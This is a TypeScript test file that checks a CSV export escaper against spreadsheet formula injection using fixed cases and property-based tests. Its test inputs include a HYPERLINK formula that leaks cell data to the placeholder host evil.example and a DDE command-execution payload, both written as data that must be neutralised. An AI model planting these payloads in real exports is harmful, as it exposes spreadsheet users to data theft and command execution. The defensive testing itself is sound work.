import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { csvParts, escapeCsv, type Cell } from "../../../src/report/escape/escape-csv.ts";
import { formulasOf, hasPython, parseCsv, parseCsvInPython } from "../../support/csv.ts";
import { hostileTexts, ordinaryNames, unsafeCharacters } from "../../support/hostile-text.ts";
import { propertyRuns } from "../../support/property.ts";

function renderCsv(rows: Iterable<readonly Cell[]>): string {
  return [...csvParts(rows)].join("");
}

const formulas = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(1+1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1+1",
  "\u00A0=1",
  "\u3000=1",
  '"=1+1"',
  "'=1+1",
  "'\"=1",
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  "a;=1+1",
  'a;"=1+1"',
  "a; -1",
  "a,=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM",
  "\uFEFF=1",
  "\u200B=1",
] as const;

test.each(formulas)("%j is no formula, in whichever place a spreadsheet parts it", (text) => {
  const file = renderCsv([
    ["first", text, "last"],
    [text, text, text],
  ]);
  expect(formulasOf(file)).toEqual([]);
  expect(parseCsv(file)).toHaveLength(2);
});

test("a formula would be found, if nothing stood before it", () => {
  expect(formulasOf("a,=1+1\r\n")).toEqual(["=1+1"]);
  expect(formulasOf('a," -1"\r\n')).toEqual(["-1"]);
  expect(formulasOf('"a, b; @x",c\r\n')).toEqual(['@x",c']);
});

test("an apostrophe stands before a formula, and before nothing else", () => {
  expect(
    ["=1+1", "  -x", "a;=b", "a=b", "O'Brien", "a - b", "7", "a@b.example"].map(escapeCsv),
  ).toEqual(["'=1+1", "'-x", "a;'=b", "a=b", "O'Brien", "a - b", "7", "a@b.example"]);
});

test.each(ordinaryNames)("%j reads back as it is", (name) => {
  expect(parseCsv(renderCsv([["x", name]]))).toEqual([["x", name]]);
});

const rows = fc.array(
  fc.array(
    fc.oneof(
      fc.constantFrom(...hostileTexts, ...formulas, ...ordinaryNames, "", '"', '""', "a\r\nb"),
      fc.string({ unit: "binary", maxLength: 20 }),
      fc.string({
        unit: fc.constantFrom("=", ";", '"', "'", ",", " ", "-", "x", "\n"),
        maxLength: 9,
      }),
    ),
    { minLength: 2, maxLength: 4 },
  ),
  { minLength: 1, maxLength: 8 },
);

describe("any text", () => {
  test("reads back from its own cell in a strict parser, on one line, with nothing invisible", () => {
    fc.assert(
      fc.property(rows, (cells) => {
        const text = renderCsv(cells);
        expect(parseCsv(text)).toEqual(cells.map((row) => row.map(escapeCsv)));
        expect(text.split("\r\n")).toHaveLength(cells.length + 1);
        expect(text.replaceAll("\r\n", "")).not.toMatch(unsafeCharacters);
      }),
      propertyRuns(300),
    );
  });

  test("starts no formula, wherever the cells are parted", () => {
    fc.assert(
      fc.property(rows, (cells) => {
        // What begins a line is a spreadsheet's first cell, whatever parts it.
        expect(formulasOf(renderCsv(cells))).toEqual([]);
      }),
      propertyRuns(300),
    );
  });
});

test.skipIf(!hasPython)("Python's csv module reads the same", () => {
  const cells = [...hostileTexts, ...formulas, ...ordinaryNames].map((text) => ["x", text, "y"]);
  expect(parseCsvInPython(renderCsv(cells))).toEqual(cells.map((row) => row.map(escapeCsv)));
});

test("many rows come in parts that make the same text", () => {
  const cells = Array.from({ length: 30_000 }, (_, at) => [`name ${at}`, "=1", at]);
  const parts = [...csvParts(cells)];
  expect(parts.length).toBeGreaterThan(1);
  expect(parseCsv(parts.join(""))).toEqual(cells.map((row) => [row[0], "'=1", String(row[2])]));
});

test("numbers stay numbers, and what is unknown is empty", () => {
  expect(renderCsv([["a", -3, null, ""]])).toBe("a,-3,,\r\n");
});
